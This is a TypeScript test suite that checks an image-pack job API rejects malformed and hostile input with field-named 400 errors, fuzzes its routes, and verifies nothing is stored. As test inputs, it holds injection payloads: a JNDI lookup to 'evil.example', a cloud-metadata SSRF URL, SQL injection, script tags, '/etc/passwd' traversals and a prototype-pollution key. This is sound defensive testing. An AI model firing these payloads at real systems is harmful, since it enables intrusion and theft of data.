/**
 * The bad-input corpus: every request a caller can get wrong is answered 4xx in the one
 * error shape, naming the bad field by its path, and nothing is written or started. A
 * seeded fuzz pass over every route proves the same for inputs nobody listed: no 5xx.
 */
import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GPU_TASK } from '../../core/resources.ts';
import { errorBodySchema } from '../../lambdas/api/schemas.ts';
import { MAX_BODY_BYTES, MAX_JOBS, MAX_UPLOAD_BYTES } from '../../lambdas/api/limits.ts';
import { prng } from '../support/images.ts';
import { packBody, uploadImages, type Uploaded } from './support/packs.ts';
import { startApiWorld, type ApiWorld } from './support/world.ts';

let world: ApiWorld;
let up: Uploaded;
let base: ReturnType<typeof packBody>;

beforeAll(async () => {
  world = await startApiWorld();
  up = await uploadImages(world, 2);
  base = packBody(up);
});
afterAll(async () => {
  await world?.stop();
});

type Json = Record<string, unknown>;
const clone = <T>(x: T): T => structuredClone(x);
/** The valid body with one change (built when the test runs, after the uploads). */
const withPack = (change: (b: Json) => void) => (): Json => {
  const b = clone(base) as unknown as Json;
  change(b);
  return b;
};
const job0 = (b: Json) => (b['jobs'] as Json[])[0]!;
const pipelineParams = (b: Json, params: Json) => { (b['pipeline'] as Json)['params'] = params; };

interface Case {
  readonly name: string;
  readonly method?: string;
  readonly path?: string;
  readonly body?: () => unknown;
  readonly rawBody?: () => string;
  readonly headers?: Record<string, string>;
  /** The issue path the answer must name. */
  readonly field: string;
  readonly code?: string;
}

const FUTURE = new Date(Date.now() + 86_400_000).toISOString();
const LONG_AGO = new Date(Date.now() - 40 * 86_400_000).toISOString();
const id = () => randomUUID();

const packCases = (): Case[] => [
  // Malformed JSON and wrong top-level types
  { name: 'a body cut short', rawBody: () => '{"name": "x", "jobs": [', field: 'body', code: 'MalformedJson' },
  { name: 'JSON with a trailing comma', rawBody: () => '{"name": "x",}', field: 'body', code: 'MalformedJson' },
  { name: 'a lone surrogate escape cut in half', rawBody: () => '{"name": "\\ud8"}', field: 'body', code: 'MalformedJson' },
  { name: 'null', rawBody: () => 'null', field: 'body' },
  { name: 'an array', rawBody: () => '[]', field: 'body' },
  { name: 'a string', rawBody: () => '"pack"', field: 'body' },
  { name: 'a number', rawBody: () => '42', field: 'body' },
  { name: 'an empty body', rawBody: () => '', field: 'body' },
  // Wrong types
  { name: 'a numeric name', body: withPack((b) => { b['name'] = 42; }), field: 'body.name' },
  { name: 'pipeline as a string', body: withPack((b) => { b['pipeline'] = 'comfyui'; }), field: 'body.pipeline' },
  { name: 'jobs as an object', body: withPack((b) => { b['jobs'] = { 0: up.jobs[0] }; }), field: 'body.jobs' },
  { name: 'a numeric person key', body: withPack((b) => { job0(b)['person'] = 123; }), field: 'body.jobs.0.person' },
  { name: 'width as a string', body: withPack((b) => pipelineParams(b, { width: '1024' })), field: 'body.pipeline.params.width' },
  { name: 'a fractional seed', body: withPack((b) => pipelineParams(b, { seed: 1.5 })), field: 'body.pipeline.params.seed' },
  { name: 'batch as a boolean', body: withPack((b) => { job0(b)['params'] = { batch: true }; }), field: 'body.jobs.0.params.batch' },
  { name: 'params as an array', body: withPack((b) => pipelineParams(b, [] as unknown as Json)), field: 'body.pipeline.params' },
  // Missing fields
  { name: 'no name', body: withPack((b) => { delete b['name']; }), field: 'body.name' },
  { name: 'no pipeline', body: withPack((b) => { delete b['pipeline']; }), field: 'body.pipeline' },
  { name: 'no jobs', body: withPack((b) => { delete b['jobs']; }), field: 'body.jobs' },
  { name: 'no inpaint backend', body: withPack((b) => { b['pipeline'] = {}; }), field: 'body.pipeline.inpaint' },
  { name: 'a job without a garment', body: withPack((b) => { delete job0(b)['garment']; }), field: 'body.jobs.0.garment' },
  // Extra fields
  { name: 'an unknown top-level field', body: withPack((b) => { b['priority'] = 1; }), field: 'body.priority' },
  { name: 'an image URL instead of an upload', body: withPack((b) => { job0(b)['url'] = 'http://169.254.169.254/latest/meta-data/'; }), field: 'body.jobs.0.url' },
  { name: 'an unknown parameter', body: withPack((b) => pipelineParams(b, { cfg: 7 })), field: 'body.pipeline.params.cfg' },
  { name: 'a __proto__ key', rawBody: () => JSON.stringify(base).replace(/^\{/, '{"__proto__": {"admin": true}, '), field: 'body.__proto__' },
  // Empty and huge arrays
  { name: 'no jobs at all', body: withPack((b) => { b['jobs'] = []; }), field: 'body.jobs' },
  { name: `${MAX_JOBS + 1} jobs`, body: withPack((b) => { b['jobs'] = Array.from({ length: MAX_JOBS + 1 }, () => up.jobs[0]); }), field: 'body.jobs' },
  // Long and odd Unicode
  { name: 'a 201-character name', body: withPack((b) => { b['name'] = 'n'.repeat(201); }), field: 'body.name' },
  { name: 'a 200,000-character name', body: withPack((b) => { b['name'] = 'ñ'.repeat(200_000); }), field: 'body.name' },
  { name: 'a right-to-left override in the name', body: withPack((b) => { b['name'] = 'invoice\u202Egpj.exe'; }), field: 'body.name' },
  { name: 'a left-to-right mark in the name', body: withPack((b) => { b['name'] = '\u200Epack'; }), field: 'body.name' },
  { name: 'a NUL in the name', body: withPack((b) => { b['name'] = 'pack\u0000'; }), field: 'body.name' },
  { name: 'a lone surrogate in the name', rawBody: () => JSON.stringify({ ...base, name: 'X' }).replace('"X"', '"pack \\ud800"'), field: 'body.name' },
  { name: 'a zero-width space in the name', body: withPack((b) => { b['name'] = 'pa\u200Bck'; }), field: 'body.name' },
  { name: 'a blank name', body: withPack((b) => { b['name'] = '   '; }), field: 'body.name' },
  { name: 'an emoji upload key', body: withPack((b) => { job0(b)['person'] = `packs/${up.packId}/uploads/😀.png`; }), field: 'body.jobs.0.person' },
  { name: 'an emoji model', body: withPack((b) => pipelineParams(b, { model: '😀' })), field: 'body.pipeline.params.model' },
  { name: 'an emoji backend', body: withPack((b) => { b['pipeline'] = { inpaint: '😀' }; }), field: 'body.pipeline.inpaint' },
  // Injection strings where they do not belong
  { name: 'SQL in the pack id', body: withPack((b) => { b['packId'] = "' OR 1=1 --"; }), field: 'body.packId' },
  { name: 'SQL in the model', body: withPack((b) => pipelineParams(b, { model: "x'; DROP TABLE jobs; --" })), field: 'body.pipeline.params.model' },
  { name: 'a script tag as the backend', body: withPack((b) => { b['pipeline'] = { inpaint: '<script>alert(1)</script>' }; }), field: 'body.pipeline.inpaint' },
  { name: 'a script tag as the model', body: withPack((b) => pipelineParams(b, { model: '<script>alert(1)</script>' })), field: 'body.pipeline.params.model' },
  { name: 'a JNDI lookup as the model', body: withPack((b) => pipelineParams(b, { model: '${jndi:ldap://evil.example/a}' })), field: 'body.pipeline.params.model' },
  { name: 'a traversal as the person', body: withPack((b) => { job0(b)['person'] = '../../etc/passwd'; }), field: 'body.jobs.0.person' },
  { name: 'a traversal inside the pack prefix', body: withPack((b) => { job0(b)['person'] = `packs/${up.packId}/uploads/../../secrets.png`; }), field: 'body.jobs.0.person' },
  { name: 'a traversal as the model', body: withPack((b) => pipelineParams(b, { model: '../../models/x' })), field: 'body.pipeline.params.model' },
  // Negative, zero and out-of-bound numbers
  { name: 'width 0', body: withPack((b) => pipelineParams(b, { width: 0 })), field: 'body.pipeline.params.width' },
  { name: 'a negative width', body: withPack((b) => pipelineParams(b, { width: -512 })), field: 'body.pipeline.params.width' },
  { name: 'a width off the multiple of 8', body: withPack((b) => pipelineParams(b, { width: 1001 })), field: 'body.pipeline.params.width' },
  { name: 'a width above the bound', body: withPack((b) => pipelineParams(b, { width: 4096 })), field: 'body.pipeline.params.width' },
  { name: 'a huge height', body: withPack((b) => pipelineParams(b, { height: 1e308 })), field: 'body.pipeline.params.height' },
  { name: 'negative steps', body: withPack((b) => { job0(b)['params'] = { steps: -1 }; }), field: 'body.jobs.0.params.steps' },
  { name: 'zero batch', body: withPack((b) => { job0(b)['params'] = { batch: 0 }; }), field: 'body.jobs.0.params.batch' },
  { name: 'a negative seed', body: withPack((b) => { job0(b)['params'] = { seed: -1 }; }), field: 'body.jobs.0.params.seed' },
  { name: 'a seed past 32 bits', body: withPack((b) => { job0(b)['params'] = { seed: 2 ** 32 }; }), field: 'body.jobs.0.params.seed' },
  { name: 'zero denoise', body: withPack((b) => pipelineParams(b, { denoise: 0 })), field: 'body.pipeline.params.denoise' },
  { name: 'a GPU wait budget of 0 minutes', body: withPack((b) => { (b['pipeline'] as Json)['gpuWaitMinutes'] = 0; }), field: 'body.pipeline.gpuWaitMinutes' },
  { name: 'a GPU wait budget past the maximum', body: withPack((b) => { (b['pipeline'] as Json)['gpuWaitMinutes'] = GPU_TASK.waitMinutes.max + 1; }), field: 'body.pipeline.gpuWaitMinutes' },
  { name: 'a fractional GPU wait budget', body: withPack((b) => { (b['pipeline'] as Json)['gpuWaitMinutes'] = 2.5; }), field: 'body.pipeline.gpuWaitMinutes' },
  { name: 'a GPU wait budget as a string', body: withPack((b) => { (b['pipeline'] as Json)['gpuWaitMinutes'] = '30'; }), field: 'body.pipeline.gpuWaitMinutes' },
  // Unknown enum values and models
  { name: 'an unknown backend', body: withPack((b) => { b['pipeline'] = { inpaint: 'dalle' }; }), field: 'body.pipeline.inpaint' },
  { name: 'a model that is not installed', body: withPack((b) => pipelineParams(b, { model: 'not-installed.safetensors' })), field: 'body.pipeline.params.model' },
  { name: 'a job model that is not installed', body: withPack((b) => { (b['jobs'] as Json[])[1]!['params'] = { model: 'flux-fill-dev.safetensors' }; }), field: 'body.jobs.1.params.model' },
  // Keys that are not this pack's uploads
  { name: 'a key of another pack', body: withPack((b) => { job0(b)['garment'] = `packs/${id()}/uploads/abcd1234-garment.png`; }), field: 'body.jobs.0.garment' },
  { name: 'a key that was never uploaded', body: withPack((b) => { job0(b)['garment'] = `packs/${up.packId}/uploads/never-uploaded.png`; }), field: 'body.jobs.0.garment' },
  { name: 'a pack id that is not an id', body: withPack((b) => { b['packId'] = 'my-pack'; }), field: 'body.packId' },
  { name: 'a pack id that is not the uploads\'', body: withPack((b) => { b['packId'] = id(); }), field: 'body.jobs.0.person' },
  // Headers
  { name: 'an Idempotency-Key with spaces', body: () => base, headers: { 'idempotency-key': 'not a key' }, field: 'header.Idempotency-Key' },
  { name: 'a 129-character Idempotency-Key', body: () => base, headers: { 'idempotency-key': 'k'.repeat(129) }, field: 'header.Idempotency-Key' },
];

const otherCases = (): Case[] => [
  // Path ids that are not ids
  { name: 'a word as a pack id', method: 'GET', path: '/packs/latest', field: 'path.id' },
  { name: 'an upper-case UUID', method: 'GET', path: `/packs/${id().toUpperCase()}`, field: 'path.id' },
  { name: 'an emoji as a pack id', method: 'GET', path: `/packs/${encodeURIComponent('😀')}`, field: 'path.id' },
  { name: 'an encoded traversal as a pack id', method: 'GET', path: `/packs/${encodeURIComponent('../../etc/passwd')}/jobs`, field: 'path.id' },
  { name: 'SQL as a job id', method: 'GET', path: `/jobs/${encodeURIComponent("1' OR '1'='1")}`, field: 'path.id' },
  { name: 'a NUL as a job id', method: 'POST', path: `/jobs/${encodeURIComponent('\u0000')}/retry`, field: 'path.id' },
  { name: 'a script tag as a pack id', method: 'POST', path: `/packs/${encodeURIComponent('<script>')}/refine`, body: () => ({ scope: 'all_completed' }), field: 'path.id' },
  // Query parameters
  { name: 'an unknown job status', method: 'GET', path: `/packs/${id()}/jobs?status=done`, field: 'query.status' },
  { name: 'limit 0', method: 'GET', path: '/packs?limit=0', field: 'query.limit' },
  { name: 'a negative limit', method: 'GET', path: '/packs?limit=-1', field: 'query.limit' },
  { name: 'a limit above the page size', method: 'GET', path: '/packs?limit=1000', field: 'query.limit' },
  { name: 'a word as the limit', method: 'GET', path: '/packs?limit=ten', field: 'query.limit' },
  { name: 'a cursor with odd characters', method: 'GET', path: '/packs?cursor=%3Cscript%3E', field: 'query.cursor' },
  { name: 'a forged cursor', method: 'GET', path: `/packs?cursor=${Buffer.from(JSON.stringify({ packId: 'x', kind: 'pack' })).toString('base64url')}`, field: 'query.cursor' },
  { name: 'a cursor of another pack', method: 'GET', path: `/packs/${id()}/jobs?cursor=${Buffer.from(JSON.stringify({ packId: id(), jobId: id() })).toString('base64url')}`, field: 'query.cursor' },
  { name: 'an unknown query parameter', method: 'GET', path: '/packs?sort=name', field: 'query.sort' },
  { name: 'a repeated query parameter', method: 'GET', path: `/packs/${id()}/jobs?status=failed&status=complete`, field: 'query.status' },
  { name: 'since that is not a date', method: 'GET', path: '/statistics?since=yesterday', field: 'query.since' },
  { name: 'since in the future', method: 'GET', path: `/statistics?since=${encodeURIComponent(FUTURE)}`, field: 'query.since' },
  { name: 'since 40 days ago', method: 'GET', path: `/statistics?since=${encodeURIComponent(LONG_AGO)}`, field: 'query.since' },
  { name: 'cleanup without hours', method: 'DELETE', path: '/cleanup', field: 'query.hours' },
  { name: 'cleanup of 0 hours', method: 'DELETE', path: '/cleanup?hours=0', field: 'query.hours' },
  { name: 'cleanup of negative hours', method: 'DELETE', path: '/cleanup?hours=-5', field: 'query.hours' },
  { name: 'cleanup of 1e3 hours', method: 'DELETE', path: '/cleanup?hours=1e3', field: 'query.hours' },
  { name: 'cleanup of more than a year', method: 'DELETE', path: '/cleanup?hours=999999', field: 'query.hours' },
  // Bodies of the other routes
  { name: 'an unknown refine scope', method: 'POST', path: `/packs/${id()}/refine`, body: () => ({ scope: 'everything' }), field: 'body.scope' },
  { name: 'a refine without a scope', method: 'POST', path: `/packs/${id()}/refine`, body: () => ({}), field: 'body.scope' },
  { name: 'a refine with an extra field', method: 'POST', path: `/packs/${id()}/refine`, body: () => ({ scope: 'all_completed', name: 'x' }), field: 'body.name' },
  { name: 'force as a string', method: 'POST', path: `/jobs/${id()}/retry`, body: () => ({ force: 'yes' }), field: 'body.force' },
  { name: 'a restart with a body field', method: 'POST', path: `/packs/${id()}/restart-incomplete`, body: () => ({ jobs: ['x'] }), field: 'body.jobs' },
  { name: 'an emergency stop with a NUL reason', method: 'POST', path: '/emergency-stop', body: () => ({ reason: 'stop\u0000' }), field: 'body.reason' },
  { name: 'an emergency stop with an extra field', method: 'POST', path: '/emergency-stop', body: () => ({ reason: 'drill', force: true }), field: 'body.force' },
  { name: 'a resume with a body field', method: 'POST', path: '/resume', body: () => ({ packs: [] }), field: 'body.packs' },
  { name: 'no files to upload', method: 'POST', path: '/uploads', body: () => ({ files: [] }), field: 'body.files' },
  { name: 'a traversal as a file name', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: '../../etc/passwd', contentType: 'image/png', size: 10 }] }), field: 'body.files.0.name' },
  { name: 'an emoji file name', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: '😀.png', contentType: 'image/png', size: 10 }] }), field: 'body.files.0.name' },
  { name: 'an SVG upload', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.svg', contentType: 'image/svg+xml', size: 10 }] }), field: 'body.files.0.contentType' },
  { name: 'an HTML upload', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.html', contentType: 'text/html', size: 10 }] }), field: 'body.files.0.contentType' },
  { name: 'an empty file', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.png', contentType: 'image/png', size: 0 }] }), field: 'body.files.0.size' },
  { name: 'a negative size', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.png', contentType: 'image/png', size: -1 }] }), field: 'body.files.0.size' },
  { name: 'a file above the size limit', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.png', contentType: 'image/png', size: MAX_UPLOAD_BYTES + 1 }] }), field: 'body.files.0.size' },
  { name: 'a file name given twice', method: 'POST', path: '/uploads', body: () => ({ files: [{ name: 'a.png', contentType: 'image/png', size: 9 }, { name: 'a.png', contentType: 'image/png', size: 9 }] }), field: 'body.files.1.name' },
  { name: 'a pack id that is not an id for uploads', method: 'POST', path: '/uploads', body: () => ({ packId: '../../x', files: [{ name: 'a.png', contentType: 'image/png', size: 9 }] }), field: 'body.packId' },
];

describe('the bad-input corpus', () => {
  it.each(packCases().map((c) => [c.name, c] as const))('POST /packs with %s is refused with 400 naming the field', async (_name, c) => {
    // Act
    const res = await world.call('POST', '/packs', {
      ...(c.rawBody === undefined ? { body: c.body?.() } : { rawBody: c.rawBody(), headers: { 'content-type': 'application/json' } }),
      ...(c.headers && { headers: { 'content-type': 'application/json', ...c.headers } }),
    });
    // Assess
    expect(res.status, res.text.slice(0, 500)).toBe(400);
    expect(errorBodySchema.safeParse(res.body).success).toBe(true);
    expect(res.body.error?.code).toBe(c.code ?? 'ValidationFailed');
    expect(res.body.error?.issues?.map((i) => i.path), res.text.slice(0, 500)).toContain(c.field);
    expect(res.body['requestId']).toBe(res.headers.get('x-amzn-requestid'));
  });

  it.each(otherCases().map((c) => [c.name, c] as const))('%s is refused with 400 naming the field', async (_name, c) => {
    const res = await world.call(c.method ?? 'GET', c.path ?? '/', c.body === undefined ? {} : { body: c.body() });
    expect(res.status, res.text.slice(0, 500)).toBe(400);
    expect(errorBodySchema.safeParse(res.body).success).toBe(true);
    expect(res.body.error?.issues?.map((i) => i.path), res.text.slice(0, 500)).toContain(c.field);
  });

  it('lists at most 50 issues for a body wrong in a thousand places, and counts the rest', async () => {
    const body = withPack((b) => { b['jobs'] = Array.from({ length: MAX_JOBS }, () => ({ person: 1, garment: 2 })); })();
    const res = await world.call('POST', '/packs', { body });
    expect(res.status).toBe(400);
    expect(res.body.error?.issues).toHaveLength(51);
    expect(res.body.error?.issues?.at(-1)).toEqual({ path: '(more)', message: `${2 * MAX_JOBS - 50} more issues not listed` });
  });
});

describe('size and media type', () => {
  it('refuses a body over 1 MiB with 413 from the API, in the error shape', async () => {
    const res = await world.call('POST', '/packs', { body: withPack((b) => { b['name'] = 'x'.repeat(MAX_BODY_BYTES); })() });
    expect(res.status).toBe(413);
    expect(res.body.error?.code).toBe('PayloadTooLarge');
    expect(errorBodySchema.safeParse(res.body).success).toBe(true);
  });

  it('refuses a body over API Gateway\'s 10 MiB at the gateway with 413, before the API runs', async () => {
    const res = await world.call('POST', '/packs', { rawBody: 'x'.repeat(10 * 1024 * 1024 + 1), headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(413);
    expect(res.body['message']).toBe('Request Too Long');
    expect(res.body.error?.code).toBe('REQUEST_TOO_LARGE');
  });

  it.each([
    ['text/plain', 'text/plain'],
    ['form data', 'application/x-www-form-urlencoded'],
    ['JSON in UTF-16', 'application/json; charset=utf-16'],
    ['no content type', undefined],
  ])('refuses a body sent as %s with 415', async (_name, type) => {
    // Bytes, so fetch adds no content type of its own.
    const res = await world.call('POST', '/packs', { rawBody: Buffer.from(JSON.stringify(base)), headers: type === undefined ? {} : { 'content-type': type } });
    expect(res.status).toBe(415);
    expect(res.body.error?.code).toBe('UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses bytes that are not UTF-8 with 400 MalformedJson', async () => {
    const bytes = Buffer.concat([Buffer.from('{"name": "'), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('"}')]);
    const res = await world.call('POST', '/packs', { rawBody: bytes, headers: { 'content-type': 'application/json' } });
    expect(res.status).toBe(400);
    expect(res.body.error).toMatchObject({ code: 'MalformedJson', issues: [{ path: 'body', message: 'is not valid UTF-8' }] });
  });

  it('accepts application/json with charset=utf-8 (and refuses this body only for what it says)', async () => {
    const res = await world.call('POST', '/packs', {
      rawBody: JSON.stringify(withPack((b) => { b['name'] = ''; })()), headers: { 'content-type': 'Application/JSON; charset=UTF-8' },
    });
    expect(res.status).toBe(400);
    expect(new Set(res.body.error?.issues?.map((i) => i.path))).toEqual(new Set(['body.name']));
  });
});

describe('a seeded fuzz pass over every route', () => {
  /** Random JSON of bounded depth: the shapes callers send by mistake. */
  function randomJson(rand: () => number, depth = 0): unknown {
    const pick = Math.floor(rand() * (depth > 2 ? 6 : 8));
    const strings = ['', ' ', 'x'.repeat(300), '😀', '\u202E', '\u0000', '<script>', '${jndi:x}', '../../', 'null', '-1', 'comfyui', 'successful_only', up.jobs[0]!.person, up.packId];
    const numbers = [0, -1, 1, 1.5, 1e308, -1e308, 2 ** 53, 512, 1024];
    switch (pick) {
      case 0: return null;
      case 1: return rand() < 0.5;
      case 2: return numbers[Math.floor(rand() * numbers.length)];
      case 3: case 4: case 5: return strings[Math.floor(rand() * strings.length)];
      case 6: return Array.from({ length: Math.floor(rand() * 4) }, () => randomJson(rand, depth + 1));
      default: {
        const keys = ['name', 'pipeline', 'jobs', 'params', 'inpaint', 'person', 'garment', 'scope', 'force', 'files', 'size', 'contentType', 'packId', 'width', 'model', 'reason'];
        return Object.fromEntries(Array.from({ length: Math.floor(rand() * 5) }, () => [keys[Math.floor(rand() * keys.length)]!, randomJson(rand, depth + 1)]));
      }
    }
  }

  it('answers 400 rather than 5xx to 300 random bodies across the routes that take one', async () => {
    // Prepare: routes whose valid input would change the world (emergency stop, resume) are left out.
    const rand = prng(20261125);
    const targets = [
      ['POST', '/packs'], ['POST', '/uploads'], ['POST', `/packs/${up.packId}/refine`], ['POST', `/packs/${up.packId}/restart-incomplete`],
      ['POST', `/jobs/${id()}/retry`],
    ] as const;
    const statuses: number[] = [];
    // Act
    for (let i = 0; i < 300; i++) {
      const [method, path] = targets[i % targets.length]!;
      const res = await world.call(method, path, { body: randomJson(rand) });
      statuses.push(res.status);
      expect(res.status, `${method} ${path}: ${res.text.slice(0, 300)}`).toBeLessThan(500);
    }
    // Assess
    expect(statuses.filter((s) => s >= 500)).toEqual([]);
  });
});

describe('nothing was written', () => {
  it('leaves no pack, job, idempotency record, flag or execution behind the whole corpus', async () => {
    const ddb = new DynamoDBClient({});
    try {
      const count = async (table: string) => (await ddb.send(new ScanCommand({ TableName: table, Select: 'COUNT' }))).Count;
      expect(await count(world.resources.tables.packs)).toBe(0);
      expect(await count(world.resources.tables.jobs)).toBe(0);
      expect(await count(world.resources.tables.control)).toBe(0);
      expect(await world.executions('pack')).toEqual([]);
      expect(await world.executions('job')).toEqual([]);
    } finally {
      ddb.destroy();
    }
  });
});
